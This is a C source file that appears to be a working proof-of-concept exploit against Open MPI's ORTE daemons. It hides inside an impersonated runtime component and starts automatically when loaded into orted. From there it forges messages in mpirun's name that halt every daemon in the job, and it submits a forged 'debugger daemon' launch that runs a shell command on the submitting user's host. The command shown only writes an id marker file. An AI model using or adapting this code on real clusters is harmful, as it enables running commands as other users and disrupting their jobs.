/* SPDX-License-Identifier: BSD-3-Clause */
/* forge.c -- loaded into the orted of a desktop whose owner wants to command the submitter's: says
 * what no orted has to say. It takes the place of a component, and loads the one whose place it
 * took. */
#include "orte_config.h"
#include "opal/dss/dss.h"
#include "orte/mca/grpcomm/grpcomm.h"
#include "orte/mca/odls/odls_types.h"
#include "orte/mca/oob/base/base.h"
#include "orte/mca/plm/plm_types.h"
#include "orte/mca/rmaps/rmaps_types.h"
#include "orte/mca/rml/base/base.h"
#include "orte/mca/rml/rml.h"
#include "orte/runtime/orte_globals.h"
#include "orte/util/attr.h"
#include "orte/util/threads.h"
#include <errno.h>
#include <pthread.h>
#include <string.h>
#include <unistd.h>

enum { UNTIL_RANKS_RUN_US = 600000 };

static opal_buffer_t *end_all(void)
{
    opal_buffer_t *b = OBJ_NEW(opal_buffer_t);
    orte_daemon_cmd_flag_t halt = ORTE_DAEMON_HALT_VM_CMD;
    opal_dss.pack(b, &halt, 1, ORTE_DAEMON_CMD);
    return b;
}

static void say(orte_process_name_t *to, opal_buffer_t *b, orte_rml_tag_t tag)
{
    orte_rml.send_buffer_nb(orte_mgmt_conduit, to, b, tag, orte_rml_send_callback, NULL);
}

/* In mpirun's name, to the other orteds: it passes on what they say to each other. */
static void say_as_mpirun(void)
{
    for (orte_vpid_t v = 1; v < orte_process_info.num_procs; v++) {
        if (v == ORTE_PROC_MY_NAME->vpid)
            continue;
        orte_rml_send_t *message = OBJ_NEW(orte_rml_send_t);
        message->origin = *ORTE_PROC_MY_HNP;
        message->dst = (orte_process_name_t){.jobid = ORTE_PROC_MY_NAME->jobid, .vpid = v};
        message->tag = ORTE_RML_TAG_DAEMON;
        message->buffer = end_all();
        message->cbfunc.buffer = orte_rml_send_callback;
        message->routed = strdup(orte_rml.get_routed(orte_mgmt_conduit));
        ORTE_OOB_SEND(message);
    }
}

static void say_to_all(void)
{
    orte_process_name_t daemons = {.jobid = ORTE_PROC_MY_NAME->jobid, .vpid = ORTE_VPID_WILDCARD};
    orte_grpcomm_signature_t *to = OBJ_NEW(orte_grpcomm_signature_t);
    to->signature = malloc(sizeof daemons);
    to->signature[0] = daemons;
    to->sz = 1;
    orte_grpcomm.xcast(to, ORTE_RML_TAG_DAEMON, end_all());
}

/* A debugger's daemon needs no slot, and so comes to run beside mpirun. */
static void spawn(void)
{
    int room = 0;
    orte_job_t *job = OBJ_NEW(orte_job_t);
    orte_app_context_t *app = OBJ_NEW(orte_app_context_t);
    orte_process_name_t parent = {.jobid = ORTE_PROC_MY_NAME->jobid + 1, .vpid = 0};
    static char *words[] = {"sh", "-c", "id >/home/ada/commanded", NULL};
    opal_buffer_t *b = OBJ_NEW(opal_buffer_t);
    orte_plm_cmd_flag_t launch = ORTE_PLM_LAUNCH_JOB_CMD;
    job->map = OBJ_NEW(orte_job_map_t);
    job->personality = calloc(2, sizeof job->personality[0]);
    job->personality[0] = strdup("ompi");
    app->app = strdup("/bin/sh");
    app->argv = words;
    app->cwd = strdup("/");
    app->num_procs = 1;
    opal_pointer_array_add(job->apps, app);
    job->num_apps = 1;
    ORTE_FLAG_SET(job, ORTE_JOB_FLAG_DEBUGGER_DAEMON);
    ORTE_SET_MAPPING_DIRECTIVE(job->map->mapping, ORTE_MAPPING_DEBUGGER);
    orte_set_attribute(&app->attributes, ORTE_APP_DASH_HOST, ORTE_ATTR_GLOBAL, "desk1",
                       OPAL_STRING);
    bool on = true;
    orte_set_attribute(&job->attributes, ORTE_JOB_NON_ORTE_JOB, ORTE_ATTR_GLOBAL, &on, OPAL_BOOL);
    orte_set_attribute(&job->attributes, ORTE_JOB_ROOM_NUM, ORTE_ATTR_GLOBAL, &room, OPAL_INT);
    orte_set_attribute(&job->attributes, ORTE_JOB_LAUNCH_PROXY, ORTE_ATTR_GLOBAL, &parent,
                       OPAL_NAME);
    opal_dss.pack(b, &launch, 1, ORTE_PLM_CMD);
    opal_dss.pack(b, &job, 1, ORTE_JOB);
    say(ORTE_PROC_MY_HNP, b, ORTE_RML_TAG_PLM);
}

static void *forge(void *unused)
{
    (void)unused;
    usleep(UNTIL_RANKS_RUN_US);
    say(ORTE_PROC_MY_HNP, end_all(), ORTE_RML_TAG_DAEMON);
    say_to_all();
    say_as_mpirun();
    spawn();
    return NULL;
}

static void __attribute__((constructor)) begin(void)
{
    pthread_t thread;
    if (strcmp(program_invocation_short_name, "orted") == 0)
        pthread_create(&thread, NULL, forge, NULL);
}
